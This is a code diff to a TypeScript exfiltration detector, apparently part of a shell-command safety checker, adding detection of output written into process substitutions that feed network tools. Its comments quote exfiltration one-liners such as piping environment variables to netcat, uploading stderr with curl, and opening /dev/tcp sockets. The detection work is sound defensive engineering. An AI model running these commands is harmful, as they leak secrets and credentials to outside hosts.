@@ -112,7 +112,8 @@ export function checkExfiltration(calls: PipedInvocation[]): Finding | null {
   });
   // `/dev/tcp/h/80` written to, or opened for later writes (`exec 3<>/dev/tcp/h/80`: which descriptor the parser does not keep)
   const sockets = calls.filter((c) => c.inv.command.redirects.some((r) => networkPath(r.target?.value ?? '')) || c.inv.args.some((w) => networkPath(w.value)));
-  if (!sinks.length && !sockets.length) return null;
+  const fedSinks = calls.map(outputSink);
+  if (!sinks.length && !sockets.length && !fedSinks.some(Boolean)) return null;
   // what each call prints of secrets, asked only of the calls whose output may reach a sink
   const memo = new Map<number, Secret | null>();
   const secretAt = (k: number) => (memo.has(k) ? memo.get(k)! : memo.set(k, printedSecret(calls[k]!.inv)).get(k)!);
@@ -124,6 +125,12 @@ export function checkExfiltration(calls: PipedInvocation[]): Finding | null {
   if (socket) {
     const k = calls.findIndex((_, i) => printedAt(i));
     if (k >= 0) return finding(printedAt(k)!, socket);
+  }
+  // `env > >(nc h 1)`: output written into a process substitution that sends it; after `exec > >(…)`, every later command's
+  for (const [i, into] of fedSinks.entries()) {
+    if (!into) continue;
+    const k = calls[i]!.inv.program === 'exec' ? calls.findIndex((_, j) => j > i && printedAt(j) && leaks(printedAt(j)!, into, true)) : i;
+    if (k >= 0 && printedAt(k) && leaks(printedAt(k)!, into, true)) return finding(printedAt(k)!, into.program);
   }
   // the stages that print secrets in each pipeline a sink reads stdin from: each reaches every stage after it
   const printers = stagesPrinting(calls, new Set(sinks.filter((x) => x.sink.stdin).map((x) => x.c.pipeline)), printedAt);
@@ -219,6 +226,20 @@ function writtenFiles(d: PipedInvocation, piped: boolean): string[] {
   const out = d.inv.command.redirects.filter((r) => WRITES.has(r.op) && r.target && !/^\d+$/.test(r.target.value)).map((r) => norm(r.target!.value));
   if (piped && d.inv.program === 'tee') out.push(...d.inv.args.filter((w) => !w.value.startsWith('-')).map((w) => norm(w.value)));
   return out;
+}
+
+/** The sink that reads what a call writes into a process substitution (`> >(nc h 1)`, `2> >(curl -T - URL)`), or null. */
+function outputSink(c: PipedInvocation): Sink | null {
+  for (const r of c.inv.command.redirects) {
+    if (!WRITES.has(r.op) && r.op !== '>&') continue;
+    for (const s of [...(r.subs ?? []), ...(r.target?.subs ?? [])])
+      for (const cmd of s.commands) {
+        const inv = unwrap(cmd).invocation;
+        const sink = inv && networkSink(inv);
+        if (sink?.stdin) return sink;
+      }
+  }
+  return null;
 }
 
 /** The scripts that make what a redirection feeds: a here-string's or heredoc's substitutions, a process substitution. */
